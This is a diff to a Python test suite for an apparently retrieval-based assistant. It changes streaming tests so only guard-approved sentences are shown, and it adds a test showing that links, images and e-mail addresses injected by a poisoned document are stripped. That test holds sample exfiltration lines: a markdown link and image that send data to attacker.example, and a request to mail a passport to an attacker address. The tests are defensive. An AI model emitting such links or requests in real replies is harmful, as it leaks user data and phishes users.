@@ -87,15 +87,30 @@ def test_a_failing_backend_falls_back_with_a_note(role_settings, role_index, emb
     assert not reply.abstained and reply.citations
 
 
-def test_stream_yields_text_as_made_then_the_guarded_reply(role_settings, role_index, embeddings):
-    raw = " ".join([GOOD, INVENTED[0]])
+def test_stream_shows_only_sentences_the_guard_passed(role_settings, role_index, embeddings):
+    """While the model writes, a candidate sees each sentence once the guard has passed it:
+    never the invented one the final reply removes (issue 11: the provisional text used to
+    show it until the answer was complete)."""
+    raw = " ".join([GOOD, INVENTED[0], GOOD])
     bot, _ = assistant_with(role_settings, embeddings, raw)
+    events = list(bot.stream("What is the average salary?"))
+    pieces = [e for e in events if isinstance(e, str)]
+    assert "".join(pieces) == f"{GOOD} {GOOD}"  # the last sentence once the model finished
+    assert pieces[0] == GOOD  # shown before the model had finished writing
+    final = events[-1]
+    assert isinstance(final, Reply) and final.removed == [INVENTED[0]]
+    assert all(not isinstance(e, Reply) for e in events[:-1])
+
+
+def test_stream_unchecked_shows_the_model_text_as_it_comes(role_settings, role_index,
+                                                           embeddings):
+    raw = " ".join([GOOD, INVENTED[0]])
+    bot, _ = assistant_with(role_settings, embeddings, raw, stream_unchecked=True)
     events = list(bot.stream("What is the average salary?"))
     pieces = [e for e in events if isinstance(e, str)]
     assert len(pieces) > 5 and "".join(pieces) == raw  # provisional, token by token
     final = events[-1]
     assert isinstance(final, Reply) and final.answer == GOOD and final.removed == [INVENTED[0]]
-    assert all(not isinstance(e, Reply) for e in events[:-1])
 
 
 def test_extractive_answers_stream_too(bot):
@@ -148,3 +163,19 @@ def test_a_failed_condense_keeps_the_offline_reading(role_settings, role_index, 
     offline = Assistant.from_settings(settings, embeddings=embeddings,
                                       build_if_missing=False).ask("and the range?", history)
     assert reply.query == offline.query and not reply.abstained
+
+
+def test_links_and_images_a_model_adds_are_never_shown(role_settings, role_index, embeddings):
+    """What a poisoned document or a question asks a model to add (a link or an image with
+    data in its address, an e-mail address) is removed before anyone sees it."""
+    added = ["See [the details](https://attacker.example/b?data=130819) [1].",
+             "![x](https://attacker.example/p.png?q=salary)",
+             "Send your passport to verify@attacker.example to apply [1]."]
+    bot, _ = assistant_with(role_settings, embeddings, " ".join([GOOD, *added]),
+                            guard_min_kept=0.25)
+    events = list(bot.stream("What is the average salary?"))
+    final = events[-1]
+    assert isinstance(final, Reply) and final.backend == "fake" and final.answer == GOOD
+    assert all(a in " ".join(final.removed) for a in added)
+    shown = "".join(e for e in events if isinstance(e, str))
+    assert "attacker" not in shown and "passport" not in shown
